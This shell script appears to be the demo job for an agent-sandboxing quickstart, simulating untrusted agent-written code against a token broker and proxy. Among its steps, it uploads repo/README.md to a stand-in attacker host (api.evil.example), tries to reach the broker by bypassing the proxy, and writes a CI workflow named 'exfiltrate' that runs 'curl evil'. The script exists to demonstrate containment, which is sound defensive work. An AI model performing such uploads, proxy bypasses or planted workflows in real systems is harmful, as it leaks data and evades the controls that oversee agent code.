#!/bin/sh
# The quickstart's example job: code an agent wrote. It reads its input,
# asks for capabilities, calls the APIs it may call (the tickets API over
# HTTPS, with a key it never sees), tries a host it may not, tries to go
# around the proxy, edits a file and writes a CI workflow.
# Whatever it prints is untrusted output; it even prints its token, which
# will be dead by the time anyone reads it.
set -u
echo "read repo/README.md: $(head -n 1 repo/README.md)"
mint=$(curl -s -X POST http://broker.cordon/v1/token \
	-d '{"capability": "invoices.read", "params": {"tenant": "4182"}}')
token=$(printf '%s' "$mint" | sed -n 's/.*"access_token":"\([^"]*\)".*/\1/p')
echo "asked for invoices.read, tenant 4182: a token for $(printf '%s' "$mint" |
	sed -n 's/.*"expires_in":\([0-9]*\).*/\1/p') s"
echo "GET invoices.internal/invoices/4182.json: $(curl -s \
	-H "Authorization: Bearer $token" http://invoices.internal:7780/invoices/4182.json)"
tmint=$(curl -s -X POST http://broker.cordon/v1/token \
	-d '{"capability": "tickets.read", "params": {"queue": "support"}}')
ttoken=$(printf '%s' "$tmint" | sed -n 's/.*"access_token":"\([^"]*\)".*/\1/p')
# HTTPS through the proxy (curl trusts the job's CA: CURL_CA_BUNDLE); the
# API wants its key, which this job never holds: the proxy swaps the
# token for it.
echo "GET https://tickets.internal:7781/tickets/T-1042.json: $(curl -s \
	-H "Authorization: Bearer $ttoken" https://tickets.internal:7781/tickets/T-1042.json)"
echo "POST api.evil.example/upload: $(curl -s -o /dev/null -w '%{http_code}' \
	-X POST --data-binary @repo/README.md http://api.evil.example/upload)"
if curl -s --noproxy '*' -m 2 -o /dev/null http://127.0.0.1:7701/healthz; then
	echo "around the proxy, to the broker: reached"
else
	echo "around the proxy, to the broker: no route"
fi
sed -i 's/return sum(/return round(sum(/; s/ for i in invoices)$/ for i in invoices), 2)/' \
	repo/src/report.py
mkdir -p repo/.github/workflows
printf 'on: push\njobs: {exfiltrate: {runs-on: ubuntu-latest, steps: [{run: "curl evil"}]}}\n' \
	>repo/.github/workflows/ci.yml
echo "edited repo/src/report.py, wrote repo/.github/workflows/ci.yml"
echo "token=$token"
